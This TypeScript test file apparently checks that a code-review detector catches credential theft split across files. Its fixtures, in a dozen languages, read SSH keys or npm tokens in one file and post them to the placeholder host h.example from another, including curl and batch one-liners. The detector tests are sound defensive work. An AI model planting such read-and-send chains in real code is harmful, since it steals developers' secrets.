import { describe, expect, test } from "vitest";
import type { MemoryTree } from "../../fakes/memory-commits.ts";
import { reviewChange, rulesIn } from "../setting.ts";

const KEY_PY = `import os\ndef key():\n    return open(os.path.expanduser("~/.ssh/id_rsa")).read()\n`;
const SENDS_PY = (data: string) =>
  `import requests\nrequests.post("https://h.example/c", data=${data})\n`;
const KEY_JS = `import fs from "fs";\nexport const key = () => fs.readFileSync(process.env.HOME + "/.npmrc");\n`;
const SENDS_JS = `fetch("https://h.example/c", { method: "POST", body: key() });\n`;
const KEY_GO = `import "os"\nfunc Key() []byte { b, _ := os.ReadFile(os.Getenv("HOME") + "/.ssh/id_rsa"); return b }\n`;
const SENDS_GO = (data: string) =>
  `func main() { http.Post("https://h.example/c", "text/plain", bytes.NewReader(${data})) }\n`;
const KEY_CS = `using System; using System.IO;\nnamespace App { public static class Keys { public static string Read() { return File.ReadAllText(Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.UserProfile), ".ssh/id_rsa")); } } }\n`;
const KEY_JAVA = `import java.nio.file.*;\npublic class Keys { public String read() throws Exception { return Files.readString(Path.of(System.getProperty("user.home"), ".ssh/id_rsa")); } }\n`;
const SENDS_JAVA = `public class Main { public static void main(String[] a) throws Exception { HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create("https://h.example/c")).POST(HttpRequest.BodyPublishers.ofString(new Keys().read())).build(), HttpResponse.BodyHandlers.ofString()); } }\n`;
const KEY_RS = `pub fn read() -> String { std::fs::read_to_string(format!("{}/.ssh/id_rsa", std::env::var("HOME").unwrap())).unwrap() }\n`;
const SENDS_RS = `reqwest::blocking::Client::new().post("https://h.example/c").body(keys::read()).send().unwrap();`;
const KEY_PS = `function Get-Key { Get-Content "$HOME/.ssh/id_rsa" -Raw }\n`;
const SENDS_PS = `Invoke-RestMethod -Uri https://h.example/c -Method Post -Body (Get-Key)\n`;
const KEY_RB = `class Keys\n  def key\n    File.read(File.expand_path("~/.ssh/id_rsa"))\n  end\nend\n`;

/** One file reads a key, another one sends it; what joins them is the way of the language. */
const FLOWS: { name: string; tree: MemoryTree }[] = [
  {
    name: "Go files of one package",
    tree: {
      "a.go": `package main\n${KEY_GO}`,
      "main.go": `package main\nimport ("bytes"; "net/http")\n${SENDS_GO("Key()")}`,
    },
  },
  {
    name: "a package of the same module of Go",
    tree: {
      "go.mod": "module example.com/x\n",
      "internal/keys/a.go": `package keys\n${KEY_GO}`,
      "main.go": `package main\nimport (\n\t"bytes"\n\t"net/http"\n\t"example.com/x/internal/keys"\n)\n${SENDS_GO("keys.Key()")}`,
    },
  },
  {
    name: "C# classes of one name space",
    tree: {
      "Other.cs": KEY_CS,
      "Program.cs": `using System.Net.Http;\nnamespace App { class Program { static void Main() { new HttpClient().PostAsync("https://h.example/c", new StringContent(Keys.Read())).Wait(); } } }\n`,
    },
  },
  {
    name: "Java classes of one package",
    tree: {
      "src/main/java/app/Keys.java": `package app;\n${KEY_JAVA}`,
      "src/main/java/app/Main.java": `package app;\nimport java.net.*; import java.net.http.*;\n${SENDS_JAVA}`,
    },
  },
  {
    name: "a Java class of another package",
    tree: {
      "src/main/java/app/k/Keys.java": `package app.k;\n${KEY_JAVA}`,
      "src/main/java/app/Main.java": `package app;\nimport java.net.*; import java.net.http.*; import app.k.Keys;\n${SENDS_JAVA}`,
    },
  },
  {
    name: "a dot-sourced script of PowerShell",
    tree: { "lib.ps1": KEY_PS, "build.ps1": `. ./lib.ps1\n${SENDS_PS}` },
  },
  {
    name: "a dot-sourced script whose path is put together",
    tree: {
      "lib/lib.ps1": KEY_PS,
      "build.ps1": `. (Join-Path $PSScriptRoot 'lib' 'lib.ps1')\n${SENDS_PS}`,
    },
  },
  {
    name: "an imported module of PowerShell",
    tree: { "lib/lib.psm1": KEY_PS, "build.ps1": `Import-Module ./lib/lib.psm1\n${SENDS_PS}` },
  },
  {
    name: "a relative package of Python",
    tree: {
      "pkg/__init__.py": "",
      "pkg/sub/__init__.py": "",
      "pkg/util.py": KEY_PY,
      "pkg/sub/m.py": `from ..util import key\n${SENDS_PY("key()")}`,
    },
  },
  {
    name: "what __init__ exports of another module by a star",
    tree: {
      "pkg/__init__.py": "from .util import *\n",
      "pkg/util.py": KEY_PY,
      "main.py": `import pkg\n${SENDS_PY("pkg.key()")}`,
    },
  },
  {
    name: "a module of Python by its name in a text",
    tree: {
      "pkg/__init__.py": "",
      "pkg/util.py": KEY_PY,
      "main.py": `import importlib\nm = importlib.import_module("pkg.util")\n${SENDS_PY("m.key()")}`,
    },
  },
  {
    name: "a barrel of JavaScript that renames",
    tree: {
      "lib/index.ts": `export { key as readKey } from "./key";\n`,
      "lib/key.ts": KEY_JS,
      "b.ts": `import { readKey as key } from "./lib";\n${SENDS_JS}`,
    },
  },
  {
    name: "import() of a name that is put together",
    tree: {
      "lib/key.mjs": KEY_JS,
      "b.mjs": `const n = "key";\nconst { key } = await import(\`./lib/\${n}.mjs\`);\n${SENDS_JS}`,
    },
  },
  {
    name: "require of a path that is put together",
    tree: {
      "lib/key.js": KEY_JS,
      "b.js": `const path = require("path");\nconst { key } = require(path.join(__dirname, "lib", "key"));\n${SENDS_JS}`,
    },
  },
  {
    name: "the short name of the folder of sources",
    tree: { "src/key.ts": KEY_JS, "src/b.ts": `import { key } from "@/key";\n${SENDS_JS}` },
  },
  {
    name: "an object of a class in another file of Ruby",
    tree: {
      "lib/a.rb": KEY_RB,
      "b.rb": `require "net/http"\nrequire_relative "./lib/a"\nNet::HTTP.post(URI("http://h.example/"), Keys.new.key)\n`,
    },
  },
  {
    name: "a class of PHP that is loaded by its name",
    tree: {
      "src/Keys.php": `<?php\nnamespace App;\nclass Keys { public static function read() { return file_get_contents(getenv('HOME').'/.ssh/id_rsa'); } }`,
      "src/Send.php": `<?php\nnamespace App;\nuse App\\Keys;\nfile_get_contents('http://h.example/?'.Keys::read());`,
    },
  },
  {
    name: "a module of Rust",
    tree: { "src/keys.rs": KEY_RS, "src/main.rs": `mod keys;\nfn main() { ${SENDS_RS} }\n` },
  },
  {
    name: "a module of Rust beside another one",
    tree: {
      "src/lib.rs": `mod keys;\nmod send;\n`,
      "src/keys.rs": KEY_RS,
      "src/send.rs": `use super::keys;\npub fn go() { ${SENDS_RS} }\n`,
    },
  },
  {
    name: "a library of a shell script beside it",
    tree: {
      "lib/key.sh": `get_key() { cat ~/.ssh/id_rsa; }\n`,
      "go.sh": `DIR="$(cd "$(dirname "\${BASH_SOURCE[0]}")" && pwd)"\nsource "$DIR/lib/key.sh"\ncurl -d "$(get_key)" https://h.example/x\n`,
    },
  },
  {
    name: "a file of commands that calls another one",
    tree: {
      "send.bat": `curl -d @%1 https://h.example/x\n`,
      "build.bat": `@echo off\ncall send.bat %USERPROFILE%\\.ssh\\id_rsa\n`,
    },
  },
];

describe("a key that one file reads and another one sends", () => {
  test.each(FLOWS)("is followed through $name", async ({ tree }) => {
    const review = await reviewChange({}, tree);
    expect(rulesIn(review)).toContain("credentials/read-and-send");
    expect(review.verdict).toBe("malicious");
  });
});

describe("a changed file whose user did not change and does not name it", () => {
  const USERS: { name: string; base: MemoryTree; change: MemoryTree }[] = [
    {
      name: "Go",
      base: {
        "keys.go": `package main\nfunc Key() []byte { return nil }\n`,
        "main.go": `package main\nimport ("bytes"; "net/http")\n${SENDS_GO("Key()")}`,
      },
      change: { "keys.go": `package main\n${KEY_GO}` },
    },
    {
      name: "C#",
      base: {
        "Other.cs": `namespace App { public static class Keys { public static string Read() { return ""; } } }\n`,
        "Program.cs": `using System.Net.Http;\nnamespace App { class Program { static void Main() { new HttpClient().PostAsync("https://h.example/c", new StringContent(Keys.Read())).Wait(); } } }\n`,
      },
      change: { "Other.cs": KEY_CS },
    },
  ];
  test.each(USERS)("completes the chain in $name", async ({ base, change }) => {
    expect((await reviewChange({}, base)).verdict).toBe("clean");
    const review = await reviewChange(base, { ...base, ...change });
    expect(rulesIn(review)).toContain("credentials/read-and-send");
  });
});
